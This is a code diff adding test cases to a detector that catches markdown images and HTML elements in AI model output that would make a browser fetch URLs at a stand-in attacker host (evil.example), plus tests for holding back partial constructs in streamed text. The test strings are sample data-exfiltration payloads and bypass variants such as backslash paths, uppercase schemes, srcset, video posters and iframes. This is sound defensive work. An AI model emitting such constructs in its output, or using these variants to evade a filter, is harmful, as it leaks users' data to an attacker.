@@ -15,6 +15,8 @@ describe('images in model output that would carry data out', () => {
       '![x](<https://evil.example/a b?c=1>)',
       '![x](https://evil.example/wiki/Foo_(bar)?d=2)',
       '![x](//evil.example/x.png?d=1)',
+      '![x](\\\\evil.example/x.png?d=1)', // a browser reads backslashes as slashes here
+      '![x](HTTPS://EVIL.example/x.png?d=1)',
       '![x](https://user:pw@evil.example/x.png)',
       '![](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.png)',
     ]) assert.deepEqual(found(`a ${construct} b`), [[construct, 'evil.example']], construct);
@@ -25,6 +27,23 @@ describe('images in model output that would carry data out', () => {
     assert.deepEqual(found('<IMG alt="x" SRC="https://evil.example/x.png?d=1">'), [['<IMG alt="x" SRC="https://evil.example/x.png?d=1">', 'evil.example']]);
     assert.deepEqual(found("<img src='https://evil.example/t.gif?u=1'/>"), [["<img src='https://evil.example/t.gif?u=1'/>", 'evil.example']]);
     assert.deepEqual(found('<img data-src="x" src=https://evil.example/t.gif?u=1>'), [['<img data-src="x" src=https://evil.example/t.gif?u=1>', 'evil.example']]);
+  });
+
+  test('other elements that fetch on display, srcset, and a > inside a quoted value', () => {
+    for (const tag of [
+      '<img alt="a > b" src="https://evil.example/x.png?d=1">',
+      '<img srcset="https://cdn.example.org/a.png 1x, https://evil.example/b.png?d=1 2x">',
+      '<picture><source srcset="https://evil.example/p.webp?d=1"></picture>',
+      '<video poster="https://evil.example/v.jpg?d=1"></video>',
+      '<iframe src="https://evil.example/frame?d=1"></iframe>',
+      '<svg><image href="https://evil.example/s.png?d=1"/></svg>',
+    ]) {
+      const links = findExfilLinks(`Report: ${tag} end`, NOTHING_ALLOWED);
+      assert.equal(links.length, 1, tag);
+      assert.equal(links[0]?.host, 'evil.example', tag);
+    }
+    assert.deepEqual(found('<a href="https://evil.example/?d=1">a link needs a click</a>'), []);
+    assert.deepEqual(found('<img src="https://evil.example/x.png?d=1"'), [], 'not closed: no browser fetches it yet');
   });
 
   test('what cannot carry data out is left alone', () => {
@@ -74,6 +93,9 @@ describe('how much of a streamed text to hold back', () => {
     assert.equal(held('Done.\n[r]: https://e'), '[r]: https://e'.length);
     assert.equal(held('x <im'), 3);
     assert.equal(held('x <img src="http'), '<img src="http'.length);
+    assert.equal(held('x <img alt="a > b" src="https://ev'), '<img alt="a > b" src="https://ev'.length, 'a > in a quoted value does not close the tag');
+    assert.equal(held('x <vid'), 4);
+    assert.equal(held('<img src="https://evil.example/x.png?d=1"> then <iframe title="t'), '<iframe title="t'.length);
   });
   test('finished constructs and ordinary text are released at once', () => {
     assert.equal(held('ok ![done](https://a/b.png) and more'), 0);
